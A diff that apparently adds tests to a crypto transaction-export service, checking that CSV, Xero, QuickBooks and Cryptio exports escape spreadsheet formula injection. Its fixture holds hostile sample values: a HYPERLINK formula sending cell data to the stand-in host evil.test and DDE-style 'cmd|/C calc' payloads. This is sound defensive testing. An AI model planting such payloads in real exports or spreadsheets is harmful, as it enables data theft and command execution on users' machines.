@@ -196,3 +196,79 @@ describe('/tx export format=…', () => {
     expect(last).toContain('The file holds BTC, USDT: Xero imports one bank account (one currency) per file');
   });
 });
+
+describe('/tx export: text from the service cannot run as a spreadsheet formula', () => {
+  const HOSTILE = {
+    from: '=HYPERLINK("http://evil.test/?x="&A1,"click")',
+    to: '@SUM(1+1)*cmd|/C calc!A0',
+    hash: '-2+3+cmd|/C calc!A0',
+    reference: '+1+1',
+    tabbed: '\t=1+1',
+  };
+
+  function seedHostile(): void {
+    t.app.sandbox!.resetTransactions([
+      {
+        transactionType: 'Deposit',
+        currency: 'USDT',
+        network: 'BSC',
+        amount: '5',
+        transactionTimeStamp: AT,
+        transactionHash: HOSTILE.hash,
+        fromAddress: HOSTILE.from,
+        reference: HOSTILE.reference,
+      },
+      {
+        transactionType: 'Withdrawal',
+        currency: 'USDT',
+        network: 'BSC',
+        amount: '0.1',
+        transactionTimeStamp: AT - 86_400_000,
+        transactionHash: '0xwd2',
+        toAddress: HOSTILE.to,
+        reference: HOSTILE.tabbed,
+      },
+    ]);
+  }
+
+  it('csv: addresses, hash and reference get a leading quote; the amount stays a number', async () => {
+    seedHostile();
+    const { rows } = await exportFile('currency=USDT');
+    const dep = rows.find((r) => r[2] === 'deposit')!;
+    const wd = rows.find((r) => r[2] === 'withdrawal')!;
+    expect(dep[4]).toBe('5');
+    expect(dep[7]).toBe(`'${HOSTILE.from}`);
+    expect(dep[9]).toBe(`'${HOSTILE.hash}`);
+    expect(dep[10]).toBe(`'${HOSTILE.reference}`);
+    expect(wd[8]).toBe(`'${HOSTILE.to}`);
+    expect(wd[10]).toBe(`'${HOSTILE.tabbed}`);
+  });
+
+  it('xero: payee and reference are escaped; the negative amount is not', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=xero');
+    expect(rows.slice(1)).toEqual([
+      ['02/11/2026', '-0.1', `'${HOSTILE.to}`, 'USDT withdrawal on BSC (tx 0xwd2)', `'${HOSTILE.tabbed}`],
+      ['03/11/2026', '5', `'${HOSTILE.from}`, `USDT deposit on BSC (tx ${HOSTILE.hash})`, `'${HOSTILE.reference}`],
+    ]);
+  });
+
+  it('quickbooks: the negative amount stays a number', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=quickbooks');
+    expect(rows.slice(1).map((r) => r[2])).toEqual(['-0.1', '5']);
+  });
+
+  it('cryptio: txhash and otherParties are escaped; volumes are not', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=cryptio');
+    const dep = rows.find((r) => r[1] === 'deposit')!;
+    const wd = rows.find((r) => r[1] === 'withdraw')!;
+    expect(dep[2]).toBe(`'${HOSTILE.hash}`);
+    expect(dep[4]).toBe('5');
+    expect(dep[15]).toBe(`'${HOSTILE.from}`);
+    expect(dep[16]).toBe(`BSC, reference ${HOSTILE.reference}`);
+    expect(wd[8]).toBe('0.1');
+    expect(wd[15]).toBe(`'${HOSTILE.to}`);
+  });
+});
